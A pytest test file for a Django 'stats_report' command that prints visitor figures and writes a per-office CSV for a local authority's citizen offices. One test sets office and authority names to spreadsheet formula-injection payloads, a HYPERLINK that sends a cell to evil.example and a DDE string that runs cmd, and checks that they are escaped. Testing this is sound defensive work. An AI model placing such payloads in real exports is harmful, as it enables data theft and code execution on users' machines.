"""manage.py stats_report: the four figures of the scenario, the CSV with every figure per office, and bad
input refused with a clear message and nothing written."""

from __future__ import annotations

import csv
import io

import pytest
from django.core.management import CommandError, call_command
from django.utils import translation

from buergerbuero.stats.management.commands.stats_report import CSV_FIGURES
from tests.stats import scenario


@pytest.fixture(autouse=True)
def _english():
    with translation.override("en"):
        yield


def run(*args: str) -> str:
    out = io.StringIO()
    call_command("stats_report", *args, stdout=out)
    return out.getvalue()


def test_prints_the_four_figures(world) -> None:
    scenario.build(world)
    text = run("--authority", "testkreis", "--from", "2026-11-30", "--to", "2026-12-01")
    assert text.splitlines() == [
        "Landratsamt Testkreis: 2026-11-30 – 2026-12-01",
        "Session participants: 4",
        "Minutes of open offices: 600",
        "Meetings: 4",
        "Virtual contact persons: 3",
    ]


def test_writes_every_figure_per_office(world, tmp_path) -> None:
    scenario.build(world)
    target = tmp_path / "report.csv"
    text = run("--authority", "testkreis", "--from", "2026-11-30", "--to", "2026-12-01", "--csv", str(target))
    assert f"Written: {target}" in text
    rows = list(csv.DictReader(io.StringIO(target.read_text(encoding="utf-8"))))
    assert list(rows[0]) == ["office", "office_name", "from", "to", *CSV_FIGURES]
    energie, garten, total = rows
    assert (
        energie["office"],
        energie["participants"],
        energie["open_minutes"],
        energie["tickets_created"],
    ) == (
        "energie",
        "3",
        "480",
        "6",
    )
    assert (garten["office_name"], garten["wait_median_s"], garten["tickets_left"]) == (
        "Gartenkultur",
        "600",
        "1",
    )
    assert (total["office_name"], total["abandonment_rate"], total["events_held"]) == (
        "Landratsamt Testkreis",
        "0.25",
        "1",
    )
    assert energie["events_held"] == "0" and energie["ratings_5"] == "1" and total["rating_average"] == "4.0"
    # The other authority's office is not in it.
    assert "buergeramt" not in target.read_text(encoding="utf-8")


def test_names_that_look_like_formulas_are_escaped_in_the_csv(world, tmp_path) -> None:
    """As in the dashboard's export: a spreadsheet must not run an office's or authority's name."""
    world.office_a.name = '=HYPERLINK("http://evil.example/?"&A1,"Klick")'
    world.office_a.save()
    world.authority.name = "+1+cmd|' /C calc'!A0"
    world.authority.save()
    target = tmp_path / "report.csv"
    run("--authority", "testkreis", "--period", "all", "--csv", str(target))
    rows = list(csv.DictReader(io.StringIO(target.read_text(encoding="utf-8"))))
    names = [row["office_name"] for row in rows]
    assert "'" + world.office_a.name in names and "'" + world.authority.name in names
    assert not any(name.startswith(("=", "+", "-", "@")) for name in names)


def test_named_periods(world) -> None:
    for name in ("today", "week", "month", "year", "all"):
        assert "Meetings: 0" in run("--authority", "testkreis", "--period", name)
    assert "Meetings: 0" in run("--authority", "testkreis")  # this month by default


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["--authority", "nirgendwo"], "There is no authority nirgendwo."),
        (["--authority", "testkreis", "--from", "2026-13-01", "--to", "2026-12-31"], "is not a date"),
        (["--authority", "testkreis", "--from", "2026-12-02", "--to", "2026-12-01"], "must not be after"),
        (["--authority", "testkreis", "--from", "2026-12-01"], "Give both --from and --to."),
        (
            ["--authority", "testkreis", "--period", "week", "--from", "2026-12-01", "--to", "2026-12-02"],
            "not both",
        ),
    ],
)
def test_bad_input_is_refused_and_nothing_written(world, tmp_path, args, message) -> None:
    target = tmp_path / "report.csv"
    with pytest.raises(CommandError, match=message):
        run(*args, "--csv", str(target))
    assert not target.exists()


def test_a_missing_folder_is_refused(world, tmp_path) -> None:
    with pytest.raises(CommandError, match="does not exist"):
        run("--authority", "testkreis", "--csv", str(tmp_path / "nope" / "report.csv"))
